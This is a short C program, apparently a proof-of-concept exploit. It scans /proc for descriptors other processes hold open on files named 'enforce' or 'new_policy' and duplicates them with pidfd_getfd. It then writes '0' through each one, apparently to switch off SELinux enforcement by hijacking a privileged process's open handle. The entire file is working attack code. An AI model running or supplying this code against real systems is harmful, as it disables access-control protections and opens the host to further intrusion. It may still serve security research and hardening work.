/*
 * getfd.c - fetch every descriptor of every process that is open for writing on enforce, and use it
 *
 * SPDX-License-Identifier: MIT
 */

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
	DIR *proc = opendir("/proc"), *fds;
	struct dirent *process, *entry;
	char path[300], target[300];
	int status = 1;

	while ((process = readdir(proc))) {
		int pid = atoi(process->d_name), pidfd, fd;

		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/fd", pid);
		fds = opendir(path);
		while (fds && (entry = readdir(fds))) {
			ssize_t length;

			snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, entry->d_name);
			length = readlink(path, target, sizeof(target) - 1);
			target[length < 0 ? 0 : length] = 0;
			if (!strstr(target, "enforce") && !strstr(target, "new_policy"))
				continue;
			pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
			fd = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(entry->d_name), 0);
			printf("%d: %s is %s: fetched %d\n", pid, path, target, fd);
			if (fd >= 0 && write(fd, "0", 1) == 1)
				status = 0;
			close(fd);
			close(pidfd);
		}
		if (fds)
			closedir(fds);
	}
	return status;
}
